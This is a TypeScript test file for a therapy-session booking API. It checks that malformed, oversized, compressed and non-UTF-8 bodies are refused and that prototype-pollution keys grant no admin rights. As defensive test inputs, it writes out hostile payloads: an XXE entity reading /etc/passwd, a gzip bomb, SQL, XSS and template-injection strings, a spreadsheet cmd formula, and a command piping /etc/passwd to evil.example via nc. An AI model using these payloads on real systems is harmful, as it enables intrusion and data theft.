import { visibleText } from "backend/domain/visible-text.ts";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { operations } from "../support/answer-schemas.ts";
import { accessMatrix } from "./access-matrix.ts";
import type { Call } from "./matrix-calls.ts";
import { type Fixture, openFixture } from "./matrix-fixture.ts";
import { pathsWithOwnLimit } from "backend/http/body-limits.ts";
import { fingerprint, rememberData } from "./database-fingerprint.ts";

const json = "application/json";

/** Longer than the longest JSON body the API accepts. */
const beyondAll = 2_000_001;

/** What is sent, its content type, and the expected answers. */
type Bad = [BodyInit, string, number[]];

/** Each operation decides about these with its own schema, and whether it needs a body. */
const forEach: Record<string, Bad> = {
  "cut off": ['{"a":', json, [400]],
  "null": ["null", json, [400]],
  "a list": ["[]", json, [400]],
  "a word": ['"x"', json, [400]],
  "a number": ["1e999", json, [400]],
  "a form": ["a=b", "application/x-www-form-urlencoded", [415]],
};

/** These are refused before an operation, so each operation gets one of them. */
const forAny: Record<string, Bad> = {
  "no JSON": ["hello", json, [400]],
  "JSON with a comma too many": ['{"a":1,}', json, [400]],
  "JSON with a comment": ["{/* x */}", json, [400]],
  "not a number": ['{"a":NaN}', json, [400]],
  "two objects": ["{}{}", json, [400]],
  "nothing that is UTF-8": [new Uint8Array([0x7b, 0xff, 0xfe, 0x7d]), json, [400]],
  "compressed": [await gzip("{}"), json, [400, 415]],
  "plain text": ["{}", "text/plain", [415]],
  "XML": ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "text/xml", [415]],
  "nearly JSON": ["{}", "application/jsonp", [415]],
  "another encoding": ["{}", "application/json; charset=iso-8859-1", [415]],
};

const takers = operations.filter(({ takesJson }) => takesJson).map(({ operationId }) =>
  accessMatrix.find((row) => row.operationId === operationId)!
);

const bomb = await gzip("0".repeat(50_000_000));

/**
 * Refused requests change nothing, so one app serves all; it is replaced when a rate limit is
 * reached.
 */
const alone = new Set(["confirmEmailChange"]);

let shared: Fixture;
beforeAll(async () => {
  shared = await openFixture();
});
afterAll(() => shared[Symbol.asyncDispose]());

const numbered = takers.map((row, nth) => [row.operationId, row, nth] as const);

describe.each(numbered)("%s", (_, row, nth) => {
  const { method, path: template } = operations.find((one) => one.operationId === row.operationId)!;

  let fixture: Fixture;
  let call: Call;
  beforeAll(async () => {
    fixture = alone.has(row.operationId) ? await openFixture() : shared;
    call = await row.call(fixture, "owner");
  });
  afterAll(async () => {
    if (fixture !== shared) await fixture[Symbol.asyncDispose]();
  });

  const pathOf = () => template.replace(/\{(\w+)\}/g, (_, name) => call.params?.[name] ?? "");

  async function sendRaw(body: BodyInit, type: string, more: Record<string, string> = {}) {
    return await fixture.app.request(pathOf(), {
      method,
      body,
      headers: { "Content-Type": type, ...fixture.headers("owner"), ...call.headers, ...more },
    });
  }

  test("refuses every invalid body and changes nothing", async () => {
    const faults: string[] = [];
    using before = rememberData(fixture.app);
    async function refuses(name: string, statuses: number[], answer: Promise<Response>) {
      const { status } = await answer;
      if (!statuses.includes(status)) faults.push(`${name}: ${status}`);
    }
    const bodies = { ...forEach, ...Object.fromEntries([nthOf(Object.entries(forAny), nth)]) };
    for (const [name, [body, type, statuses]] of Object.entries(bodies)) {
      await refuses(name, statuses, sendRaw(body, type));
    }
    const packed = { "Content-Encoding": "gzip" };
    const large = [
      () => refuses("too large", [413], sendRaw(`{"a":"${"x".repeat(beyondAll)}"}`, json)),
      () => refuses("a packed body", [400, 413, 415], sendRaw(bomb, json, packed)),
      () => refuses("a body without a length", [413], sendRaw(endless(), json)),
    ];
    const hasOwnLimit = pathsWithOwnLimit.some((one) =>
      typeof one === "string" ? one === pathOf() : one.test(pathOf())
    );
    for (const send of hasOwnLimit ? large : [nthOf(large, nth)]) await send();
    if (before.haveChanged()) faults.push("changed something");
    expect(faults).toEqual([]);
  });

  test("deep, duplicate and prototype keys give no rights", async () => {
    const written = JSON.stringify(call.body ?? {});
    const deep = "[".repeat(20_000) + "]".repeat(20_000);
    const poison = `{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}},`;
    const doubled = written.replace(/^\{/, '{"userId":"x","id":"x","isAdmin":true,');
    const sent = [
      written.replace(/^\{/, `{"deep":${deep},`).replace(/,\}$/, "}"),
      written.replace(/^\{/, poison).replace(/,\}$/, "}"),
      doubled.replace(/,\}$/, "}"),
    ];
    for (const text of sent) {
      const answer = await sendRaw(text, json);
      expect(answer.status).toBeLessThan(500);
      fixture.reopen();
    }
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    const owner = await fixture.app.ports.persistence.users.find(fixture.users.owner.id);
    if (owner) expect(owner).toMatchObject({ isAdmin: false, email: fixture.users.owner.email });
  });
});

const words: Record<string, string> = {
  "SQL": `'); drop table users; -- " or ""="`,
  "HTML": `<script>alert(1)</script><img src=x onerror=alert(1)>`,
  "a script link": "javascript:alert(1)",
  "a template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
  "directions": "\u202Eevil\u202C \u2066x\u2069 \u200B\uFEFF",
  "a command": "; cat /etc/passwd | nc evil.example 1 `id` $(id)",
  "a log line": "x level=error msg=you-are-hacked",
  "a formula": "=cmd|' /C calc'!A0",
  "faces": "👩‍👩‍👧‍👦 Õäöü ß İ ﷽ 𝕳",
};

test.each(Object.entries(words))("%s is an ordinary word", async (_, word) => {
  const fixture = shared;
  const { app } = fixture;
  const { session } = await fixture.booked();
  const path = `/therapy-sessions/${session.id}`;
  const headers = fixture.headers("owner");
  const noted = await app.send("PUT", path, { note: word }, headers);
  expect((await noted.json()).note).toBe(word.trim());
  const commented = await app.post(`${path}/comment`, { comment: word }, headers);
  // What others read has no invisible characters.
  expect((await commented.json()).comments.at(-1).comment).toBe(visibleText(word).trim());
  const found = await app.post("/therapists/search", { q: word, text: word }, headers);
  expect(found.status).toBeLessThan(500);
  const query = new URLSearchParams({ cursor: word, limit: "5" });
  expect((await app.get(`/therapy-sessions/me?${query}`, headers)).status).toBe(400);
  expect((await app.get(`/user/by-email/${encodeURIComponent(word)}`, headers)).status).toBe(404);
});

test("half a character and bytes that are not UTF-8 are refused instead of replaced", async () => {
  await using fixture = await openFixture();
  const { app } = fixture;
  const { session } = await fixture.booked();
  const send = async (body: BodyInit) => {
    const answer = await app.request(`/api/therapy-sessions/${session.id}`, {
      method: "PUT",
      headers: { ...fixture.headers("owner"), "Content-Type": 'application/json; charset="UTF-8"' },
      body,
    });
    const { errCode, errors } = await answer.json();
    return [answer.status, errCode, errors?.[0]];
  };
  expect(await send('{"note":"a\\ud800b"}')).toMatchObject([
    400,
    "ERR_INVALID_INPUT",
    { path: "note", errCode: "ERR_INVALID_CHARACTER" },
  ]);
  const latin1 = Uint8Array.from('{"note":"k\u00f5ik"}', (letter) => letter.charCodeAt(0));
  expect((await send(latin1)).slice(0, 2)).toEqual([400, "ERR_MALFORMED_JSON"]);
  expect((await send('{"note":"k\u00f5ik \\ud83d\\ude42"}'))[0]).toBe(200);
});

test("a text with a NUL character is refused, because the database would cut it there", async () => {
  await using fixture = await openFixture();
  const { app } = fixture;
  const { session } = await fixture.booked();
  const path = `/therapy-sessions/${session.id}`;
  const headers = fixture.headers("owner");
  const before = fingerprint(app);
  for (
    const [where, send] of [
      ["note", () => app.send("PUT", path, { note: "before\0after" }, headers)],
      ["comment", () => app.post(`${path}/comment`, { comment: "\0" }, headers)],
      ["reason", () => app.post(`${path}/cancel`, { reason: "a\0b" }, headers)],
      ["q", () => app.get("/therapy-sessions/me?q=%00", headers)],
    ] as const
  ) {
    const answer = await send();
    expect(answer.status, where).toBe(400);
    expect(await answer.json()).toMatchObject({
      errCode: "ERR_INVALID_INPUT",
      errors: [{ path: where, errCode: "ERR_INVALID_CHARACTER" }],
    });
  }
  expect(fingerprint(app)).toBe(before);
});

function nthOf<One>(all: One[], nth: number): One {
  return all[nth % all.length]!;
}

/** Two megabytes in pieces. */
function endless(): ReadableStream<Uint8Array> {
  let left = 50;
  const piece = Math.ceil(beyondAll / (left - 1));
  return new ReadableStream({
    pull(controller) {
      controller.enqueue(new TextEncoder().encode(left === 50 ? '{"a":"' : "x".repeat(piece)));
      if (--left === 0) controller.close();
    },
  });
}

async function gzip(text: string): Promise<ArrayBuffer> {
  const packed = new Blob([text]).stream().pipeThrough(new CompressionStream("gzip"));
  return await new Response(packed).arrayBuffer();
}
